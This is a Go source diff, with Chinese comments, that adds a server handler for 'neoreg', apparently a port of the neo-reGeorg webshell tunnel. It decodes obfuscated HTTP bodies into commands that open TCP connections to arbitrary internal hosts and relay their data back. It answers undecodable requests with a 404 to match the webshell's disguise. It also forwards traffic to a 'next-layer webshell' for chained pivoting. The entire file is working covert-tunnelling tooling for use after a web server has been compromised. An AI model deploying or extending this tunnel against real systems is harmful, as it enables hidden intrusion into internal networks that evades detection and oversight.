@@ -0,0 +1,284 @@
+package neoreg
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"os"
+	"strconv"
+	"sync"
+	"time"
+)
+
+var (
+	// DefaultReadWait 为 READ 请求等待目标数据的最长时间
+	DefaultReadWait = 10 * time.Millisecond
+	// DefaultMaxReadSize 为单个 READ 响应携带的最大数据量
+	DefaultMaxReadSize = 512 * 1024
+
+	// DefaultMaxPending 为按序号写入时等待前序数据的最大分片数
+	DefaultMaxPending = 64
+
+	errSessionNotFound = errors.New("session not found")
+	errTooManyPending  = errors.New("too many pending forwards")
+)
+
+// Handler 为 Go 实现的 neoreg 服务端, 与 webshell 使用相同的编码与 BLV 格式,
+// 按 mark 维护目标连接, 处理 CONNECT/FORWARD/READ/DISCONNECT 命令。
+// 无法解码的请求交给 NotFound 处理, 与 webshell 的伪装页面行为一致。
+type Handler struct {
+	Conf *NeoregConf
+	Dial func(ctx context.Context, network, address string) (net.Conn, error)
+
+	ReadWait    time.Duration
+	MaxReadSize int
+	// Redirect 用于把带有 cmdRedirectURL 的请求转发给下一层 webshell
+	Redirect *http.Client
+	NotFound http.Handler
+
+	mu       sync.Mutex
+	sessions map[string]*session
+}
+
+type session struct {
+	conn   net.Conn
+	readMu sync.Mutex
+	buf    []byte
+
+	// 按序号写入时, 先到达的后序分片暂存在 pending 中, 直到 nextSeq 到达
+	writeMu sync.Mutex
+	nextSeq uint64
+	pending map[uint64][]byte
+}
+
+// NewHandler 使用 key 生成编码映射并创建服务端
+func NewHandler(key string) *Handler {
+	return &Handler{
+		Conf:        NewConf(key),
+		Dial:        (&net.Dialer{Timeout: DefaultTimeout}).DialContext,
+		ReadWait:    DefaultReadWait,
+		MaxReadSize: DefaultMaxReadSize,
+		Redirect:    &http.Client{Timeout: DefaultTimeout},
+		NotFound:    http.NotFoundHandler(),
+		sessions:    make(map[string]*session),
+	}
+}
+
+func (h *Handler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	body, err := ioutil.ReadAll(r.Body)
+	if err != nil {
+		h.NotFound.ServeHTTP(w, r)
+		return
+	}
+	info := decodeBody(body, h.Conf)
+	if len(info[cmdCommand]) == 0 {
+		h.NotFound.ServeHTTP(w, r)
+		return
+	}
+
+	if target := string(info[cmdRedirectURL]); target != "" && h.Redirect != nil {
+		h.redirect(w, r, target, info)
+		return
+	}
+
+	var reply map[int][]byte
+	mark := string(info[cmdMark])
+	switch string(info[cmdCommand]) {
+	case cmdConnect:
+		reply = h.connect(r.Context(), mark, net.JoinHostPort(string(info[cmdIP]), string(info[cmdPort])))
+		if len(info[cmdSeq]) > 0 && string(reply[cmdStatus]) == statusOK {
+			reply[cmdSeq] = info[cmdSeq]
+		}
+	case cmdForward:
+		if seq := info[cmdSeq]; len(seq) > 0 {
+			reply = h.forwardSeq(mark, string(seq), info[cmdData])
+			break
+		}
+		reply = h.forward(mark, info[cmdData])
+	case cmdRead:
+		reply = h.read(mark)
+	case cmdDisconnect:
+		h.disconnect(mark)
+		reply = okReply()
+	default:
+		h.NotFound.ServeHTTP(w, r)
+		return
+	}
+
+	w.Header().Set("Content-Type", "text/html")
+	w.Write(encodeBody(reply, h.Conf))
+}
+
+// Close 关闭所有目标连接
+func (h *Handler) Close() error {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	for mark, s := range h.sessions {
+		s.conn.Close()
+		delete(h.sessions, mark)
+	}
+	return nil
+}
+
+func okReply() map[int][]byte {
+	return map[int][]byte{cmdStatus: []byte(statusOK)}
+}
+
+func failReply(err error) map[int][]byte {
+	reply := map[int][]byte{cmdStatus: []byte("FAIL")}
+	if err != nil {
+		reply[cmdError] = []byte(err.Error())
+	}
+	return reply
+}
+
+func (h *Handler) session(mark string) *session {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	return h.sessions[mark]
+}
+
+func (h *Handler) connect(ctx context.Context, mark, address string) map[int][]byte {
+	conn, err := h.Dial(ctx, "tcp", address)
+	if err != nil {
+		return failReply(err)
+	}
+
+	h.mu.Lock()
+	if h.sessions == nil {
+		h.sessions = make(map[string]*session)
+	}
+	if old := h.sessions[mark]; old != nil {
+		old.conn.Close()
+	}
+	h.sessions[mark] = &session{conn: conn, nextSeq: 1}
+	h.mu.Unlock()
+	return okReply()
+}
+
+func (h *Handler) forward(mark string, data []byte) map[int][]byte {
+	s := h.session(mark)
+	if s == nil {
+		return failReply(errSessionNotFound)
+	}
+	if _, err := s.conn.Write(data); err != nil {
+		h.disconnect(mark)
+		return failReply(err)
+	}
+	return okReply()
+}
+
+// forwardSeq 按序号写入目标, 乱序到达的分片等待前序分片, 重复的序号直接确认
+func (h *Handler) forwardSeq(mark, seqText string, data []byte) map[int][]byte {
+	s := h.session(mark)
+	if s == nil {
+		return failReply(errSessionNotFound)
+	}
+	seq, err := strconv.ParseUint(seqText, 10, 64)
+	if err != nil || seq == 0 {
+		return failReply(fmt.Errorf("invalid seq: %s", seqText))
+	}
+
+	s.writeMu.Lock()
+	defer s.writeMu.Unlock()
+	if seq < s.nextSeq {
+		return okReply()
+	}
+	if seq > s.nextSeq {
+		if len(s.pending) >= DefaultMaxPending {
+			h.disconnect(mark)
+			return failReply(errTooManyPending)
+		}
+		if s.pending == nil {
+			s.pending = make(map[uint64][]byte)
+		}
+		s.pending[seq] = data
+		return okReply()
+	}
+	for {
+		if _, err := s.conn.Write(data); err != nil {
+			h.disconnect(mark)
+			return failReply(err)
+		}
+		s.nextSeq++
+		next, ok := s.pending[s.nextSeq]
+		if !ok {
+			return okReply()
+		}
+		delete(s.pending, s.nextSeq)
+		data = next
+	}
+}
+
+// read 在 ReadWait 内读取目标数据, 没有数据时返回空的 OK, 目标关闭时返回不带错误信息的 FAIL
+func (h *Handler) read(mark string) map[int][]byte {
+	s := h.session(mark)
+	if s == nil {
+		return failReply(errSessionNotFound)
+	}
+
+	s.readMu.Lock()
+	defer s.readMu.Unlock()
+	size := h.MaxReadSize
+	if size <= 0 {
+		size = DefaultMaxReadSize
+	}
+	if len(s.buf) != size {
+		s.buf = make([]byte, size)
+	}
+
+	wait := h.ReadWait
+	if wait <= 0 {
+		wait = DefaultReadWait
+	}
+	s.conn.SetReadDeadline(time.Now().Add(wait))
+	n, err := s.conn.Read(s.buf)
+	reply := okReply()
+	if n > 0 {
+		reply[cmdData] = append([]byte{}, s.buf[:n]...)
+		return reply
+	}
+	if err != nil && !os.IsTimeout(err) {
+		h.disconnect(mark)
+		if err == io.EOF {
+			return failReply(nil)
+		}
+		return failReply(err)
+	}
+	return reply
+}
+
+func (h *Handler) disconnect(mark string) {
+	h.mu.Lock()
+	s := h.sessions[mark]
+	delete(h.sessions, mark)
+	h.mu.Unlock()
+	if s != nil {
+		s.conn.Close()
+	}
+}
+
+// redirect 去掉转发字段后把请求原样发给下一层 webshell, 并返回其响应
+func (h *Handler) redirect(w http.ResponseWriter, r *http.Request, target string, info map[int][]byte) {
+	delete(info, cmdRedirectURL)
+	delete(info, cmdForceRedirect)
+	req, err := http.NewRequestWithContext(r.Context(), r.Method, target, bytes.NewReader(encodeBody(info, h.Conf)))
+	if err != nil {
+		w.Write(encodeBody(failReply(err), h.Conf))
+		return
+	}
+	req.Header = r.Header.Clone()
+	resp, err := h.Redirect.Do(req)
+	if err != nil {
+		w.Write(encodeBody(failReply(err), h.Conf))
+		return
+	}
+	defer resp.Body.Close()
+	w.WriteHeader(resp.StatusCode)
+	io.Copy(w, resp.Body)
+}